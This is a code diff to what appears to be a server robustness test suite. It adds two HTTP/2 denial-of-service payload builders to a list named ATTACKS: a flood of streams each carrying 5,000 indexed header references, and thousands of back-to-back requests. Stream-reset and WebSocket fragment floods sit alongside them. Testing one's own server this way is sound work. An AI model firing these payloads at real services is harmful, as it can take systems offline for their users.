@@ -211,6 +211,20 @@ def reset_streams() -> bytes:
     return PREFACE + FrameWatch.HEADER.pack(0, 0, 4, 0, 0) + b"".join(frames)
 
 
+def referred_headers() -> bytes:
+    """HTTP/2: requests with five thousand headers each, of which each is a byte that refers to a table."""
+    head = b"\x82\x86\x04\x0a/v0/health\x01\x01a" + b"\x90" * 5000
+    frames = [FrameWatch.HEADER.pack(0, len(head), 1, 0x05, stream) + head for stream in range(1, 800, 2)]
+    return PREFACE + FrameWatch.HEADER.pack(0, 0, 4, 0, 0) + b"".join(frames)
+
+
+def unknown_paths() -> bytes:
+    """HTTP/2: requests that are answered as soon as their heads are read, one behind the other."""
+    head = b"\x82\x86\x04\x02/a\x01\x01a" + b"\x90" * 90
+    frames = [FrameWatch.HEADER.pack(0, len(head), 1, 0x05, stream) + head for stream in range(1, 10_000, 2)]
+    return PREFACE + FrameWatch.HEADER.pack(0, 0, 4, 0, 0) + b"".join(frames)
+
+
 def fragments() -> bytes:
     """WebSocket: a message of a million empty fragments."""
     return handshake() + client_frame(1, fin=False) + client_frame(0, fin=False) * 1_000_000
@@ -242,6 +256,8 @@ ATTACKS: Final[list[Attack]] = [
     jobs,
     pipelined,
     reset_streams,
+    referred_headers,
+    unknown_paths,
     fragments,
 ]
 
